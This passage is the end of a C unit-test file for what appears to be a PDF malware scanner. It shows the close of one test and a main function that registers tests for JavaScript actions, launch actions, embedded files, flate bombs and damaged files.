	    "PDF_JAVASCRIPT(b)");
	obj_tree_free(t);
	g_free(p);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_clam_pdf),
		cmocka_unit_test(test_openaction_js),
		cmocka_unit_test(test_launch),
		cmocka_unit_test(test_aa_objstm),
		cmocka_unit_test(test_nested_objstm),
		cmocka_unit_test(test_embedded),
		cmocka_unit_test(test_urls),
		cmocka_unit_test(test_page_text),
		cmocka_unit_test(test_page_text_cap),
		cmocka_unit_test(test_escaped_names),
		cmocka_unit_test(test_bad_length),
		cmocka_unit_test(test_flate_bomb),
		cmocka_unit_test(test_encrypted),
		cmocka_unit_test(test_clean_generated),
		cmocka_unit_test(test_clean_real),
		cmocka_unit_test(test_damage),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
